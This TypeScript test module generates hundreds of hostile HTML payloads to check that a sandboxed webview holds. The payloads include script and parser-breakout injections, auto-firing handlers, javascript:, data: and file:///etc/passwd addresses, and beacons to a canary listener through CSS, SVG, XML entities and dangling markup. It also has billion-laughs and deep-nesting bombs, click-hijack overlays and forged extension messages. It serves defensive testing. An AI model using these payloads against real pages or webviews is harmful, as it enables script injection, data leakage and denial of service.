/** Generates faces that try to run a script, leave their frame, send requests or exhaust the window. */
import { createInjection, injections } from '../injections.ts';

export interface HostileFace {
  readonly name: string;
  readonly content: string;
  readonly mediaType?: string;
}

export interface ListenerAddresses {
  /** origins, without a trailing slash */
  readonly http: string;
  readonly https: string;
}

type Make = (home: string, script: string) => string;

const b64 = (text: string): string => Buffer.from(text).toString('base64');
const q = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

/** Scripts in the markup of the face. */
const scripts: Readonly<Record<string, Make>> = {
  plain: (_h, s) => `<script>${s}</script>`,
  upper: (_h, s) => `<SCRIPT>${s}</SCRIPT>`,
  slash: (_h, s) => `<script/x>${s}</script>`,
  'line break': (_h, s) => `<script\n>${s}</script\n>`,
  module: (_h, s) => `<script type=module>${s}</script>`,
  'module imports': (h) => `<script type=module>import '${h}/module.js'</script>`,
  'import map': (h) =>
    `<script type=importmap>{"imports":{"x":"${h}/map.js"}}</script><script type=module>import 'x'</script>`,
  async: (h) => `<script async src="${h}/async.js"></script>`,
  defer: (h) => `<script defer src="${h}/defer.js"></script>`,
  'data: script': (_h, s) => `<script src="data:text/javascript,${encodeURIComponent(s)}"></script>`,
  'nonce guess': (_h, s) => `<script nonce="">${s}</script>`,
  speculation: (h) =>
    `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${h}/spec"]}],"prerender":[{"source":"list","urls":["${h}/pre"]}]}</script>`,
  'svg script': (_h, s) => `<svg><script>${s}</script></svg>`,
  'svg script href': (h) => `<svg><script href="${h}/s.js"/></svg>`,
  'svg xlink script': (h) => `<svg><script xlink:href="${h}/x.js"></script></svg>`,
  'math breakout': (_h, s) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;script&gt;${q(s)}&lt;/script&gt;" src=x onerror="${q(s)}">`,
  'noscript breakout': (_h, s) => `<noscript><p title="</noscript><img src=x onerror='${s.replaceAll("'", '`')}'>">`,
  'comment breakout': (_h, s) => `<!--><script>${s}</script>-->`,
  'comment bang': (_h, s) => `<!--x--!><script>${s}</script>`,
  'conditional comment': (_h, s) => `<!--[if true]><script>${s}</script><![endif]-->`,
  cdata: (_h, s) => `<![CDATA[><script>${s}</script>]]>`,
  'title breakout': (_h, s) => `<title></title><script>${s}</script></title>`,
  'textarea breakout': (_h, s) => `<textarea></textarea><script>${s}</script>`,
  'style breakout': (_h, s) => `<style></style><script>${s}</script>`,
  'svg style breakout': (_h, s) => `<svg><style><img src=x onerror="${q(s)}"></style></svg>`,
  'xmp breakout': (_h, s) => `<xmp></xmp><script>${s}</script>`,
  'select breakout': (_h, s) => `<select><option><script>${s}</script></select>`,
  'table breakout': (_h, s) => `<table><script>${s}</script><tr><td>x</table>`,
  'template content': (_h, s) => `<template><script>${s}</script></template>`,
  'declarative shadow': (_h, s) =>
    `<div><template shadowrootmode=open><script>${s}</script><img src=x onerror="${q(s)}"></template></div>`,
  'document end': (_h, s) => `</body></html><script>${s}</script>`,
  'leaves an attribute': (_h, s) => `"></iframe><script>${s}</script><iframe srcdoc="`,
  'leaves an attribute, single': (_h, s) => `'></iframe><script>${s}</script>`,
  'leaves srcdoc by entities': (_h, s) => `&quot;&gt;&lt;/iframe&gt;&lt;script&gt;${s}&lt;/script&gt;`,
  'doctype trick': (_h, s) => `<!doctype html "'><script>${s}</script>">`,
  'doctype in comment': (_h, s) => `<!-- <!doctype html> --><!doctype html><script>${s}</script>`,
  'own policy': (_h, s) =>
    `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' 'unsafe-eval' data: blob:"><script>${s}</script>`,
  frameset: (_h, s) => `<html><frameset onload="${q(s)}"><frame src="javascript:${q(s)}"></frameset></html>`,
  'srcdoc inside': (_h, s) => `<iframe srcdoc="${q(`<script>${s}</script>`)}"></iframe>`,
  'srcdoc, more sandbox': (_h, s) =>
    `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="${q(`<script>${s}</script>`)}"></iframe>`,
  'srcdoc twice': (_h, s) =>
    `<iframe srcdoc="${q(`<iframe srcdoc="${q(`<script>${s}</script>`)}"></iframe>`)}"></iframe>`,
  'foreign object': (_h, s) => `<svg><foreignObject><body><script>${s}</script></body></foreignObject></svg>`,
  'reporter forged': () =>
    `<script>parent.postMessage({'smartObjects.faceReport':1,level:'log',text:'pwned'},'*')</script>`,
  'bridge forged': () =>
    `<script>parent.postMessage({type:'state',body:{}},'*');acquireVsCodeApi().postMessage('pwned')</script>`,
  'utf-7': (_h, s) => `<meta charset="utf-7">+ADw-script+AD4-${s}+ADw-/script+AD4-`,
  'iso-2022-jp': (_h, s) => `<meta charset="iso-2022-jp"><img alt="\u001b$B"><img src=x onerror="${q(s)}">`,
  'nul in tag': (_h, s) => `<scr\0ipt>${s}</scr\0ipt><script\0>${s}</script>`,
  'lone surrogates': (_h, s) => `\ud800<script>${s}</script>\udfff`,
  'byte order mark': (_h, s) => `\ufeff<script>${s}</script>`,
  'full width': (_h, s) => `＜script＞${s}＜/script＞<script>${s}</script>`,
  'placeholder breaks': (_h, s) => `<script>{{"${s}"}}</script>{{`,
};

/** Elements with event handlers that run without a gesture. */
const handlers: readonly string[] = [
  '<body onload=@>',
  '<body onpageshow=@>',
  '<body onresize=@ onscroll=@ onhashchange=@ onmessage=@ onfocus=@>',
  '<img src=x onerror=@>',
  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=@>',
  '<image src=x onerror=@>',
  '<svg onload=@>',
  '<svg><animate onbegin=@ attributeName=x dur=1s>',
  '<svg><set onbegin=@ attributeName=x to=y>',
  '<svg><image href=x onerror=@ />',
  '<svg><style onload=@></style></svg>',
  '<video src=x onerror=@></video>',
  '<video onloadstart=@ src=x></video>',
  '<video><source onerror=@ src=x></video>',
  '<audio src=x onerror=@></audio>',
  '<details open ontoggle=@><summary>x</summary></details>',
  '<input autofocus onfocus=@>',
  '<select autofocus onfocus=@></select>',
  '<textarea autofocus onfocus=@></textarea>',
  '<button autofocus onfocus=@>x</button>',
  '<a href="#" autofocus onfocus=@ tabindex=0>x</a>',
  '<marquee onstart=@ onbounce=@ loop=1>x</marquee>',
  '<object data=x onerror=@ onload=@></object>',
  '<embed src=x onload=@ onerror=@>',
  '<iframe onload=@></iframe>',
  '<iframe src=x onload=@></iframe>',
  '<link rel=stylesheet href=x onerror=@ onload=@>',
  '<link rel=stylesheet href="data:text/css," onload=@>',
  '<script src=x onerror=@></script>',
  '<style onload=@ onerror=@>*{}</style>',
  '<style>@keyframes k{to{opacity:1}}</style><p style="animation:k 1ms" onanimationstart=@ onanimationend=@>x</p>',
  '<style>p{transition:opacity 1ms}p:not(.z){opacity:.5}</style><p ontransitionrun=@ ontransitionend=@>x</p>',
  '<form><input oninvalid=@ required><button autofocus formnovalidate></form>',
  '<div popover onbeforetoggle=@ ontoggle=@>x</div>',
  '<dialog open oncancel=@ onclose=@ ontoggle=@>x</dialog>',
  '<div style="overflow:auto;height:9px" onscroll=@ onscrollend=@ onfocusin=@ tabindex=0 autofocus>x</div>',
  '<p oncontentvisibilityautostatechange=@ style="content-visibility:auto">x</p>',
  '<isindex onfocus=@ autofocus>',
  '<keygen autofocus onfocus=@>',
  '<math onfocus=@ tabindex=1 autofocus><mi>x</mi></math>',
];

/** Addresses that contain a script or a document. */
const addresses: Readonly<Record<string, (script: string) => string>> = {
  javascript: (s) => `javascript:${s}`,
  'mixed case': (s) => `JaVaScRiPt:${s}`,
  'tab inside': (s) => `java\tscript:${s}`,
  'line break inside': (s) => `java\nscript:${s}`,
  'control before': (s) => `\u0001javascript:${s}`,
  vbscript: () => `vbscript:MsgBox(1)`,
  'data html': (s) => `data:text/html,<script>${encodeURIComponent(s)}</script>`,
  'data html base64': (s) => `data:text/html;base64,${b64(`<script>${s}</script>`)}`,
  'data svg': (s) =>
    `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${q(s)}"/>`)}`,
  'data xml': (s) => `data:text/xml;base64,${b64(`<x xmlns="http://www.w3.org/1999/xhtml"><script>${s}</script></x>`)}`,
  blob: () => 'blob:null/00000000-0000-0000-0000-000000000000',
  file: () => 'file:///etc/passwd',
};
const addressed: Readonly<Record<string, (address: string) => string>> = {
  iframe: (a) => `<iframe src="${q(a)}"></iframe>`,
  object: (a) => `<object data="${q(a)}"></object>`,
  embed: (a) => `<embed src="${q(a)}">`,
  'meta refresh': (a) => `<meta http-equiv=refresh content="0;url=${q(a)}">`,
  img: (a) => `<img src="${q(a)}">`,
  'svg use': (a) => `<svg><use href="${q(a)}#x"/></svg>`,
};

/** Markup that sends requests without a script. */
const requests: Readonly<Record<string, (home: string) => string>> = {
  img: (h) => `<img src="${h}/img">`,
  'img unquoted': (h) => `<img src=${h}/img>`,
  srcset: (h) => `<img srcset="${h}/1x 1x, ${h}/2x 2x">`,
  picture: (h) => `<picture><source srcset="${h}/picture"><img src="data:,"></picture>`,
  'input image': (h) => `<input type=image src="${h}/input">`,
  'lazy image': (h) => `<img loading=lazy src="${h}/lazy"><img loading=eager fetchpriority=high src="${h}/eager">`,
  attribution: (h) => `<img attributionsrc="${h}/attribution" src="data:,"><a attributionsrc="${h}/a" href="#">x</a>`,
  'body background': (h) => `<body background="${h}/body">`,
  'table background': (h) => `<table background="${h}/table"><td background="${h}/td">x</table>`,
  'old images': (h) =>
    `<img lowsrc="${h}/low" dynsrc="${h}/dyn"><bgsound src="${h}/bg"><layer src="${h}/layer"></layer>`,
  video: (h) => `<video autoplay muted src="${h}/video"></video>`,
  poster: (h) => `<video poster="${h}/poster"></video>`,
  'video source': (h) => `<video autoplay><source src="${h}/source"><track default src="${h}/track"></video>`,
  audio: (h) => `<audio autoplay src="${h}/audio"></audio>`,
  iframe: (h) => `<iframe src="${h}/iframe"></iframe>`,
  'iframe with csp': (h) => `<iframe csp="default-src *" allow="*" src="${h}/iframe"></iframe>`,
  frameset: (h) => `<html><frameset><frame src="${h}/frame"></frameset></html>`,
  object: (h) => `<object data="${h}/object"></object>`,
  'object param': (h) => `<object><param name=movie value="${h}/movie"><embed src="${h}/embed"></object>`,
  applet: (h) => `<applet code=x archive="${h}/applet.jar" codebase="${h}/"></applet>`,
  portal: (h) => `<portal src="${h}/portal"></portal><fencedframe src="${h}/fenced"></fencedframe>`,
  stylesheet: (h) => `<link rel=stylesheet href="${h}/css">`,
  'stylesheet in body': (h) => `<p>x</p><link rel="stylesheet alternate" href="${h}/css">`,
  icon: (h) => `<link rel="shortcut icon" href="${h}/icon"><link rel=apple-touch-icon href="${h}/touch">`,
  preload: (h) => `<link rel=preload as=image href="${h}/preload"><link rel=preload as=fetch href="${h}/fetch">`,
  prefetch: (h) => `<link rel=prefetch href="${h}/prefetch">`,
  preconnect: (h) => `<link rel=preconnect href="${h}"><link rel="preconnect" crossorigin href="${h}">`,
  'preconnect, slash': (h) => `<link/rel=preconnect/href=${h}>`,
  'preconnect in svg style': (h) => `<svg><style><link rel=preconnect href="${h}"></style></svg>`,
  'dns prefetch': (h) => `<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href="${h}">`,
  modulepreload: (h) => `<link rel=modulepreload href="${h}/module.js">`,
  prerender: (h) => `<link rel=prerender href="${h}/prerender"><link rel=next href="${h}/next">`,
  'link manifest': (h) => `<link rel=manifest href="${h}/manifest.json">`,
  'html manifest': (h) => `<html manifest="${h}/manifest"><p>x</html>`,
  'html import': (h) =>
    `<link rel=import href="${h}/import"><link rel=expect href="${h}/e"><link rel=compression-dictionary href="${h}/d">`,
  '@import': (h) => `<style>@import "${h}/import.css";</style>`,
  '@import url': (h) => `<style>@import url(${h}/import.css) screen;</style>`,
  'css background': (h) => `<style>body{background:url(${h}/bg)}</style>`,
  'css inline': (h) => `<p style="background-image:url('${h}/bg')">x</p>`,
  'css escapes': (h) => `<style>body{background:u\\72l("${h.replace('//', '\\2f\\2f ')}/bg")}</style>`,
  'css list': (h) => `<style>li{list-style:url(${h}/li)}</style><li>x`,
  'css content': (h) => `<style>p::before{content:url(${h}/content)}</style><p>x`,
  'css cursor': (h) => `<style>*{cursor:url(${h}/cursor),auto}</style>`,
  'css border': (h) => `<style>p{border:9px solid;border-image:url(${h}/border) 1}</style><p>x`,
  'css mask': (h) => `<style>p{mask:url(${h}/mask);-webkit-mask-image:url(${h}/wmask)}</style><p>x`,
  'css filter': (h) =>
    `<style>p{filter:url(${h}/f.svg#f);clip-path:url(${h}/c.svg#c);backdrop-filter:url(${h}/b.svg#b)}</style><p>x`,
  'css shape': (h) => `<style>p{float:left;width:9px;height:9px;shape-outside:url(${h}/shape)}</style><p>x`,
  'css image-set': (h) =>
    `<style>body{background:image-set("${h}/set" 1x)}p{background:-webkit-image-set(url(${h}/wset) 1x)}</style><p>x`,
  'css cross-fade': (h) => `<style>p{background:-webkit-cross-fade(url(${h}/a),url(${h}/b),50%)}</style><p>x`,
  'css variable': (h) => `<style>:root{--x:url(${h}/var)}p{background:var(--x)}</style><p>x`,
  'css attribute leak': (h) => `<style>input[value^=s]{background:url(${h}/leak-s)}</style><input value=secret>`,
  font: (h) => `<style>@font-face{font-family:f;src:url(${h}/font.woff2)}p{font-family:f}</style><p>x`,
  'font of a range': (h) =>
    `<style>@font-face{font-family:f;src:url(${h}/a);unicode-range:U+61}p{font-family:f}</style><p>abc`,
  'css namespace': (h) =>
    `<style>@namespace url(${h}/ns);@document url(${h}/d){}@view-transition{navigation:auto}</style>`,
  'svg image': (h) => `<svg><image href="${h}/image" width=9 height=9 /></svg>`,
  'svg xlink image': (h) => `<svg><image xlink:href="${h}/image" width=9 height=9 /></svg>`,
  'svg use': (h) => `<svg><use href="${h}/use.svg#x"/></svg>`,
  'svg xlink use': (h) => `<svg><use xlink:href="${h}/use.svg#x"/></svg>`,
  'svg feImage': (h) =>
    `<svg><filter id=f><feImage href="${h}/fe"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>`,
  'svg paint': (h) => `<svg><rect width=9 height=9 fill="url(${h}/paint.svg#p)" mask="url(${h}/mask.svg#m)"/></svg>`,
  'svg gradient': (h) =>
    `<svg><linearGradient id=a href="${h}/g.svg#g"/><textPath href="${h}/t.svg#t">x</textPath></svg>`,
  'svg animated href': (h) => `<svg><image width=9 height=9><set attributeName=href to="${h}/set"/></image></svg>`,
  'svg foreign': (h) => `<svg><foreignObject width=9 height=9><img src="${h}/foreign"></foreignObject></svg>`,
  'xml stylesheet': (h) =>
    `<?xml version="1.0"?><?xml-stylesheet href="${h}/x.css"?><svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/></svg>`,
  'xml entity': (h) =>
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${h}/entity">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
  'xml doctype': (h) =>
    `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${h}/dtd"><svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/></svg>`,
  'meta refresh': (h) => `<meta http-equiv=refresh content="0;url=${h}/refresh">`,
  'meta refresh, late': (h) => `<p>x</p><meta http-equiv="Refresh" content="0; URL='${h}/refresh'">`,
  base: (h) => `<base href="${h}/base/"><img src="relative"><a href="x">x</a>`,
  'base target': (h) => `<base href="${h}/" target=_top><meta http-equiv=refresh content="0;url=x">`,
  noscript: (h) => `<noscript><img src="${h}/noscript"><link rel=stylesheet href="${h}/nocss"></noscript>`,
  shadow: (h) =>
    `<div><template shadowrootmode=open><img src="${h}/shadow"><style>@import "${h}/s.css";</style></template></div>`,
  'srcdoc image': (h) => `<iframe srcdoc="${q(`<img src="${h}/inner">`)}"></iframe>`,
  'srcdoc refresh': (h) => `<iframe srcdoc="${q(`<meta http-equiv=refresh content="0;url=${h}/inner">`)}"></iframe>`,
  'data svg image': (h) =>
    `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${h}/nested"/></svg>`)}">`,
  'report-uri': (h) =>
    `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${h}/report"><img src="data:image/gif;base64,x">`,
  placeholder: (h) => `<img src="${h}/{{.id}}"><p style="background:url(${h}/{{.owner}})">{{.metadata.name}}</p>`,
  'placeholder host': (h) => `<img src="${h}{{.id}}/x"><img src="{{.custom.url}}">`,
  'unclosed attribute': (h) => `<img src="${h}/unclosed?`,
  'dangling markup': (h) => `<img src='${h}/dangling?\n<p>secret</p>\n`,
};

/** Faces that only take much time or memory. */
function heavy(home: string): Readonly<Record<string, string>> {
  const laughs = Array.from(
    { length: 20 },
    (_x, i) => `<g id="l${String(i + 1)}">${`<use href="#l${String(i)}"/>`.repeat(10)}</g>`,
  );
  return {
    'deep elements': '<div>'.repeat(30_000),
    'deep formatting': '<b><i><u>'.repeat(5000) + 'x',
    'deep svg': `<svg>${'<g>'.repeat(10_000)}`,
    'deep tables': '<table><tr><td>'.repeat(500),
    'deep style': `<style>${'@media all{'.repeat(5000)}p{color:red}</style>`,
    'much text': 'lorem ipsum '.repeat(150_000),
    'many elements': '<p>x</p>'.repeat(30_000),
    'many attributes': `<p ${Array.from({ length: 20_000 }, (_x, i) => `a${String(i)}=1`).join(' ')}>x`,
    'long attribute': `<p title="${'x'.repeat(1_500_000)}">x`,
    'many images': Array.from({ length: 3000 }, (_x, i) => `<img src="${home}/many/${String(i)}">`).join(''),
    'many rules': `<style>${Array.from({ length: 20_000 }, (_x, i) => `.c${String(i)}{color:red}`).join('')}</style>`,
    'billion laughs': `<svg><g id="l0"><rect width="1" height="1"/></g>${laughs.join('')}<use href="#l20"/></svg>`,
    'use of itself': '<svg><g id="a"><use href="#a"/></g><use href="#a"/></svg>',
    'too large': `<p>${'x'.repeat(2_100_000)}</p>`,
    'huge span': '<table><td colspan=1000 rowspan=65534>x</table>',
    'huge numbers': '<svg width="1e9" height="1e9"><circle r="1e38"/></svg><p style="font-size:1e9px;margin:-1e9px">x',
    entities: '&amp;'.repeat(100_000),
    'nested comments': '<!--'.repeat(50_000),
    'only brackets': '<'.repeat(200_000),
    'endless animation':
      '<style>@keyframes s{to{rotate:360deg}}p{animation:s 1ms infinite}</style>' + '<p>x'.repeat(200),
    'many frames': `<iframe srcdoc="<p>x"></iframe>`.repeat(30),
  };
}

/** Returns at least 200 faces; requests of a face go to `<canary>/<index>/…`. */
export function hostileFaces(canary: ListenerAddresses): readonly HostileFace[] {
  const faces: { readonly name: string; readonly make: Make; readonly mediaType?: string }[] = [];
  const add = (name: string, make: Make, mediaType?: string): void => {
    faces.push({ name, make, ...(mediaType !== undefined && { mediaType }) });
  };
  for (const [name, make] of Object.entries(scripts)) add(`script: ${name}`, make);
  for (const element of handlers) add(`handler: ${element}`, (_h, s) => element.replaceAll('@', `"${q(s)}"`));
  for (const [what, make] of Object.entries(addresses))
    for (const [where, put] of Object.entries(addressed)) add(`address: ${what} in ${where}`, (_h, s) => put(make(s)));
  for (const [name, make] of Object.entries(requests)) {
    add(`request: ${name}`, make);
    add(`request over https: ${name}`, (home) => make(home.replace(canary.http, canary.https)));
  }
  for (const name of ['img', 'svg image', 'svg use', 'css background', 'preconnect', '@import'])
    add(`without a scheme: ${name}`, (home) => requests[name]?.(home.replace('http:', '')) ?? '');
  for (const name of ['svg image', 'svg use', 'svg feImage', 'svg paint', 'xml stylesheet'])
    add(`as SVG: ${name}`, (home) => requests[name]?.(home) ?? '', 'image/svg+xml');
  // All carriers without a wrapper, and each wrapper with one of three carriers.
  const few = ['<a href="@">x</a>', '<link rel=preconnect href="@">', '<iframe src="@"></iframe>'];
  const wrappers = new Set<string>();
  for (const { carrier, wrapper } of injections('')) {
    wrappers.add(wrapper);
    if (wrapper === '@' || carrier === few[wrappers.size % few.length])
      add(`injection ${`${wrapper} ${carrier}`.replace(/\W+/g, ' ').trim()}`, (home) =>
        createInjection(carrier, wrapper, home),
      );
  }
  for (const name of Object.keys(heavy(''))) add(`heavy: ${name}`, (home) => heavy(home)[name] ?? '');
  return faces.map(({ name, make, mediaType }, index) => {
    const home = `${canary.http}/${String(index)}`;
    const script = `(function(){try{new Image().src='${home}/script'}catch(e){}try{fetch('${home}/fetch')}catch(e){}try{parent.postMessage('pwned ${String(index)}','*');top.postMessage('pwned ${String(index)}','*')}catch(e){}try{top.location='${home}/top'}catch(e){}try{location='${home}/self'}catch(e){}})()`;
    return {
      name: `${String(index)} ${name}`.slice(0, 40).trim(),
      content: make(home, script),
      ...(mediaType !== undefined && { mediaType }),
    };
  });
}

/** Faces that act on a click anywhere in the frame. */
export function clickableFaces(canary: ListenerAddresses): readonly HostileFace[] {
  const cover = 'style="position:fixed;inset:0;display:block;width:100%;height:100%;font-size:40px"';
  const script = `parent.postMessage('pwned click','*');fetch('${canary.http}/click/script')`;
  const home = `${canary.http}/click`;
  const faces: Readonly<Record<string, string>> = {
    link: `<a ${cover} href="${home}/link">x</a>`,
    'link to top': `<a ${cover} target=_top href="${home}/top">x</a>`,
    'link to parent': `<a ${cover} target=_parent href="${home}/parent">x</a>`,
    'link to blank': `<a ${cover} target=_blank rel=opener href="${home}/blank">x</a>`,
    download: `<a ${cover} download href="${home}/download">x</a>`,
    'download of data': `<a ${cover} download=x.html href="data:text/html,x">x</a>`,
    ping: `<a ${cover} ping="${home}/ping" href="#x">x</a>`,
    'javascript link': `<a ${cover} href="javascript:${q(script)}">x</a>`,
    'data link': `<a ${cover} href="data:text/html,<script>${q(script)}</script>">x</a>`,
    'command link': `<a ${cover} href="command:workbench.action.terminal.new">x</a>`,
    'editor link': `<a ${cover} target=_top href="vscode://smart-objects.smart-object-explorer/logs">x</a>`,
    form: `<form action="${home}/form"><button ${cover}>x</button></form>`,
    'form to top': `<form action="${home}/form" target=_top method=post><button ${cover}>x</button></form>`,
    formaction: `<form><button ${cover} formaction="${home}/formaction">x</button></form>`,
    handler: `<button ${cover} onclick="${q(script)}">x</button>`,
    'svg link': `<svg ${cover}><a href="${home}/svg"><rect width="9999" height="9999"/></a></svg>`,
  };
  return Object.entries(faces).map(([name, content]) => ({ name: `click: ${name}`, content }));
}
